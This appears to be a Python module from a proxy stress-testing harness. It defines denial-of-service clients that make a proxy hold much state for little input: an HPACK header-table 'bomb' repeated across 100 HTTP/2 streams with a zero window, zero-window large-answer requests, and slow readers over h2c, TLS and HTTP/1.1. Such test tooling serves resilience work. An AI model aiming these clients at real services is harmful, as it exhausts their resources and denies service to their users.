"""Clients that want the proxy to hold much for the little that they send.

Each attack is what one client sends on one connection; then it stays, reading
(what it is owed besides the answers) or not.
"""

from collections.abc import Callable
from dataclasses import dataclass

import frames

STREAMS = 100


@dataclass(frozen=True)
class Attack:
    """One kind of client."""

    key: str
    title: str
    front: str  # http1, h2c or tls
    protocol: str  # http/1.1 or h2, also over TLS
    sends: Callable  # scheme's index → bytes
    reads: bool  # False: it leaves everything in its socket


def base(path, scheme):
    """The fields that every request has."""
    return (frames.indexed(frames.METHOD_GET) + frames.indexed(scheme)
            + frames.literal(frames.PATH, path) + frames.literal(frames.AUTHORITY, b"a")
            + frames.literal(b"x-user-id", b"1025"))


def streams(block, first=b""):
    """The same request on as many streams as proxies allow; `first` is what the
    first one puts into the table."""
    return b"".join(frames.headers(1 + 2 * number, block if number else first or block)
                    for number in range(STREAMS))


def bomb(name, fields):
    """Requests of `fields` fields, all but the ordinary ones a byte each, whose
    answers nobody takes: the fields are to be held for as long as that lasts."""

    def sends(scheme):
        start = base(b"/", scheme)
        repeated = frames.indexed(frames.FIRST_DYNAMIC)
        return frames.settings(window=0) + streams(
            start + repeated * fields,
            start + frames.literal(name, b"", remembered=True) + repeated * (fields - 1))

    return sends


def large_answers(window):
    """Large answers on all streams, of which `window` bytes each may be sent."""

    def sends(scheme):
        opening = frames.settings(window=window)
        if window:
            opening += frames.window_update(0, frames.LARGEST_WINDOW - 65_535)
        return opening + streams(base(b"/bulk", scheme))

    return sends


def large_answer(_scheme):
    """The same over HTTP/1.1, which has one answer at a time."""
    return b"GET /bulk HTTP/1.1\r\nhost: a\r\nx-user-id: 1025\r\n\r\n"


def h2(key, title, sends, reads=True):
    """The attack over h2c and over TLS."""
    return [Attack(key, f"{title}, h2c", "h2c", "h2", sends, reads),
            Attack(f"{key}-tls", f"{title}, TLS", "tls", "h2", sends, reads)]


ATTACKS = [
    *h2("bomb", "bomb, 90 fields", bomb(b"a", 90)),
    Attack("bomb-4000", "bomb, 4 000 fields, h2c", "h2c", "h2", bomb(b"a", 4000), True),
    Attack("crumbs", "bomb, 90 cookies, h2c", "h2c", "h2", bomb(frames.COOKIE, 90), True),
    *h2("zero-window", "windows of 0", large_answers(0)),
    *h2("slow-reader", "nothing read", large_answers(frames.LARGEST_WINDOW), reads=False),
    Attack("slow-http1", "nothing read, HTTP/1.1", "http1", "http/1.1", large_answer, False),
    Attack("slow-http1-tls", "nothing read, HTTP/1.1, TLS", "tls", "http/1.1", large_answer, False),
]
